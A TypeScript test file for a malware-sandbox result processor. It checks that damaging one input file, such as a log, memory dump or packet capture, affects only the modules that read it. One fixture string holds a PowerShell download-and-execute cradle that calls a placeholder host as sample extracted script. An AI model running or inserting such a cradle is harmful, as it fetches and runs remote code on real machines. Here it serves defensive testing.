import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openAnalysis } from '../../src/analysis/open.ts';
import { silentBeacon } from '../../src/engine/beacon.ts';
import { defaultConfig } from '../../src/engine/config/types.ts';
import { builtInProcessing, loadPlugins, type Plugins } from '../../src/engine/load.ts';
import { silentLog } from '../../src/engine/log.ts';
import { ProblemList } from '../../src/engine/problem-list.ts';
import { runProcessing } from '../../src/engine/run-processing.ts';
import type { Results } from '../../src/plugin/container.ts';

/** One analysis with a file for every module, one of which is damaged at a time. */

const root = join(mkdtempSync(join(tmpdir(), 'ovoscope-test-')), 'analysis');
afterAll(() => rmSync(dirname(root), { recursive: true }));

const EVENT = (id: number) =>
  `<Event xmlns='x'><System><EventID>${id}</EventID></System><EventData></EventData></Event>`;
const DNS = '{"event_type":"dns","src_ip":"10.0.0.2","dns":{"type":"query","rrname":"a.example","rrtype":"A"}}';
const ALERT = '11/27/19-13:07:07.372261  [**] [1:498:3] text [**] [Priority: 2] {UDP} 10.0.0.2:5 -> 10.0.0.3:6';
const SCRIPT = 'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'http://a.example/b\')"';

/** A region of a dump: address, size, state, type and protection, and the bytes. */
function dump(): Buffer {
  const head = Buffer.alloc(24);
  head.writeBigUInt64LE(0x400000n, 0);
  head.writeUInt32LE(0x1000, 8);
  head.writeUInt32LE(0x1000, 12);
  head.writeUInt32LE(0x20000, 16);
  head.writeUInt32LE(4, 20);
  return Buffer.concat([head, Buffer.alloc(0x1000, 'http://dump.example/a ')]);
}

const MORE: { [path: string]: string | Uint8Array } = {
  'suricata/eve.json': `${DNS}\n${DNS}\n`,
  'snort/alert': `${ALERT}\n${ALERT}\n`,
  'sysmon/1.xml': `<Events>\n${EVENT(1)}\n${EVENT(3)}\n</Events>`,
  'logs/procmon.xml': '<procmon><event><PID>4</PID></event><event><PID>5</PID></event></procmon>',
  'logs/droidmon.log': `${JSON.stringify({ class: 'java.lang.Runtime', method: 'exec', args: [['su', '-c', 'id']] })}\n\n`,
  'memory/2412-1.dmp': dump(),
  'volatility/pslist.json': JSON.stringify({ columns: ['Name', 'PID'], rows: [['System', 4]] }),
  'buffer/6057f13c496ecf7fd777ceb9e79ae285': 'a buffer with http://buffer.example/ in it',
  'extracted/0.txt': SCRIPT,
  'shots/0001.jpg': Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'),
  'tlsmaster.txt': `CLIENT_RANDOM ${'0'.repeat(64)} ${'1'.repeat(96)}\n`,
  'mitm.log': '{"a": 1}\n',
};

/** Who reads a file: its own value may differ when the file is damaged, and so may those of modules that read it. */
const READERS: { [start: string]: string[] } = {
  'task.json': ['info', 'debug', 'target'],
  binary: ['target', 'static', 'strings', 'strings_ex', 'apkinfo'],
  'dump.pcap': ['network'],
  'tlsmaster.txt': ['network'],
  'mitm.log': ['network'],
  'logs/2': ['behavior', 'buffer'],
  files: ['dropped'],
  'analysis.log': ['debug', 'info'],
  'suricata/': ['suricata'],
  'snort/': ['snort'],
  'sysmon/': ['sysmon'],
  'logs/procmon.xml': ['procmon'],
  'logs/droidmon.log': ['droidmon'],
  'memory/': ['procmemory'],
  'volatility/': ['memory'],
  'buffer/': ['buffer'],
  'extracted/': ['extracted'],
  'shots/': ['screenshots'],
};

/** Files of which any damage can be told from what they are, and not only when they are gone. */
const TELLING = /^(?:dump\.pcap|logs\/.*\.bson|logs\/procmon\.xml|memory\/|sysmon\/|volatility\/)/;

let plugins: Plugins;
let intact: Run;
let files: string[];

beforeAll(async () => {
  cpSync('examples/analysis', root, { recursive: true });
  for (const [path, content] of Object.entries(MORE)) put(path, content);
  plugins = await loadPlugins(builtInProcessing(), {});
  intact = await run();
  const analysis = await openAnalysis(root);
  files = analysis.list('', { recursive: true }).map(({ path }) => path);
  analysis.close();
});

function put(path: string, content: string | Uint8Array): void {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), content);
}

interface Run {
  values: Map<string, string>;
  failed: string[];
  problems: string[];
}

async function run(): Promise<Run> {
  const analysis = await openAnalysis(root);
  const results: Results = {};
  const problems = new ProblemList();
  try {
    const timings = await runProcessing(plugins.processing, analysis, results, {
      config: defaultConfig(),
      problems,
      beacon: silentBeacon(),
      log: silentLog,
      signal: undefined,
      clock: () => 0,
      skip: new Set(),
      onProgress: () => {},
    });
    const values = Object.entries(results).map(([key, value]): [string, string] => [key, text(value)]);
    return {
      values: new Map(values),
      failed: timings.filter(({ state }) => state === 'failed').map(({ name }) => name),
      problems: problems.items.map(({ code, message }) => `${code}: ${message}`),
    };
  } finally {
    analysis.close();
  }
}

const text = (value: unknown): string =>
  JSON.stringify(value, (_, each) => (typeof each === 'bigint' ? `${each}` : each)) ?? '';

/** The readers of a file, and all that read their values. */
function allowed(path: string): Set<string> {
  const start = Object.keys(READERS).find((each) => path.startsWith(each));
  if (start === undefined) throw new Error(`the test does not know who reads ${path}`);
  const names = new Set(READERS[start]);
  for (let size = -1; size < names.size; ) {
    size = names.size;
    for (const { name, specimen } of plugins.processing) {
      if ([...specimen.needs, ...(specimen.after ?? [])].some((key) => names.has(key))) names.add(name);
    }
  }
  return names;
}

const DAMAGES: [string, (bytes: Buffer) => Uint8Array | undefined][] = [
  ['missing', () => undefined],
  ['empty', () => new Uint8Array()],
  ['cut in half', (bytes) => bytes.subarray(0, bytes.length >> 1)],
  ['without its last byte', (bytes) => bytes.subarray(0, -1)],
  ['of another format', () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
  ['text where bytes are wanted, or the other way round', (bytes) => Buffer.from(bytes.map((byte) => byte ^ 0x55))],
];

it('every module has a file to read', () => {
  expect(intact.failed).toEqual([]);
  expect(intact.problems).toEqual([]);
  const missing = plugins.processing.filter(({ name, enabled }) => enabled && !intact.values.has(name));
  expect(missing.map(({ name }) => name).sort()).toEqual(['CAPE', 'apkinfo', 'baseline', 'evtx', 'procdump', 'yara']);
});

it('a damaged file costs the values that are made of it, and nothing else', { timeout: 120_000 }, async () => {
  for (const path of files) {
    const bytes = readFileSync(join(root, path));
    const may = allowed(path);
    for (const [name, damage] of DAMAGES) {
      const damaged = damage(bytes);
      if (damaged === undefined) rmSync(join(root, path));
      else writeFileSync(join(root, path), damaged);
      const { values, failed, problems } = await run();
      const others = [...intact.values.keys()].filter(
        (key) => !may.has(key) && values.get(key) !== intact.values.get(key),
      );
      expect(others, `${path} ${name}`).toEqual([]);
      expect(failed, `${path} ${name}`).toEqual([]);
      if (TELLING.test(path) && name !== 'missing') expect(problems, `${path} ${name}`).not.toEqual([]);
      put(path, bytes);
    }
  }
});
